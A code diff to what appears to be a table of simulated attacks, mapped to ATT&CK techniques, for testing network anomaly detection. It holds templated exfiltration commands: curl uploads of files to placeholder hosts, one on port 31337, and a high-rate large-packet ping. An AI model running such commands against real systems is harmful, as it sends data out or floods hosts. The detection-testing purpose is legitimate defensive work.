@@ -43,7 +43,6 @@ INJECTIONS = {injection.name: injection for injection in [
     Attack("spike", "T1048.001", "for i in 1 2 3; do curl --silent --insecure -T {folder}/large.bin https://{target}/upload; done",
            (("traffic_spike", "source"),)),
     Attack("uncommon-port", "T1571", "for i in 1 2 3 4; do curl --silent -T {paper} http://{target}:31337/upload; sleep 2; done",
-           (("uncommon_port", "source"),)),
-    Attack("large-payload", "T1048.001", "for i in 1 2; do curl --silent --insecure -T {folder}/large.bin https://{site}/upload; done",
-           (("large_payload", "source"),), victims=("site",)),
+           (("uncommon_port", "source"),), needs_config=True),
+    Attack("large-payload", "T1048.003", "ping -n -q -i 0.08 -s 1000 -c 250 {target}", (("large_payload", "source"),)),
 ]}
